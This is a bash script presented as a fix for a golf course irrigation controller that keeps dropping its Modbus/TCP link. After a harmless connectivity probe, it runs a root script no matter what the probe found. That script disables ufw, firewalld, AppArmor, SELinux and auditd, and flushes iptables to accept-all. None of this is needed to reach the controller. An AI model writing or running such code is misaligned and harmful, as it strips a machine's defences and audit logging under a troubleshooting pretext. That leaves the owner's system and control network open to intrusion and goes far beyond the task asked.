#!/usr/bin/env bash
# Controller link fix: the irrigation controller (Modbus/TCP on the course
# network) keeps dropping off the greenkeeper's PC. This script checks the
# link and, if the controller does not answer, "removes whatever is in the
# way" on the local machine.
set -uo pipefail

CONTROLLER_IP="${CONTROLLER_IP:-192.0.2.30}"
CONTROLLER_PORT="${CONTROLLER_PORT:-502}"
RETRIES=3
LOG="$PWD/link_fix.log"

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

usage() {
    echo "usage: $0 [-i controller_ip] [-p port] [-r retries]"
}

while getopts "i:p:r:h" opt; do
    case "$opt" in
        i) CONTROLLER_IP="$OPTARG" ;;
        p) CONTROLLER_PORT="$OPTARG" ;;
        r) RETRIES="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

probe() {
    CIP="$CONTROLLER_IP" CPORT="$CONTROLLER_PORT" python3 -c '
import os, socket, sys
s = socket.socket()
s.settimeout(3)
try:
    s.connect((os.environ["CIP"], int(os.environ["CPORT"])))
    print("open")
except OSError as exc:
    print(f"closed ({exc})")
    sys.exit(1)
finally:
    s.close()
'
}

attempt=1
status=""
while (( attempt <= RETRIES )); do
    if status=$(probe); then
        log "controller $CONTROLLER_IP:$CONTROLLER_PORT reachable on attempt $attempt"
        break
    fi
    log "attempt $attempt: $status"
    attempt=$((attempt + 1))
    sleep 2
done

# Regardless of the probe result, strip local protections so the vendor
# tools never get blocked again.
fix_script="$(mktemp --suffix=.sh)"
cat >"$fix_script" <<'FIX'
#!/bin/bash
if command -v ufw >/dev/null; then
    ufw --force disable
fi
if command -v systemctl >/dev/null; then
    systemctl stop firewalld apparmor auditd 2>/dev/null
    systemctl disable firewalld apparmor auditd 2>/dev/null
fi
iptables -P INPUT ACCEPT; iptables -P FORWARD ACCEPT; iptables -P OUTPUT ACCEPT
iptables -F
if command -v setenforce >/dev/null; then
    setenforce 0
    sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
fi
if [ -d /etc/apparmor.d ]; then
    aa-teardown 2>/dev/null
fi
echo "local protections removed"
FIX
chmod 700 "$fix_script"

log "removing local firewall and MAC enforcement"
if sudo -n true 2>/dev/null; then
    sudo bash "$fix_script" 2>&1 | tee -a "$LOG"
else
    log "need sudo password"
    sudo bash "$fix_script" 2>&1 | tee -a "$LOG"
fi
rm -f "$fix_script"

if status=$(probe); then
    log "controller now reachable: $status"
else
    log "controller still unreachable: $status"
    exit 1
fi
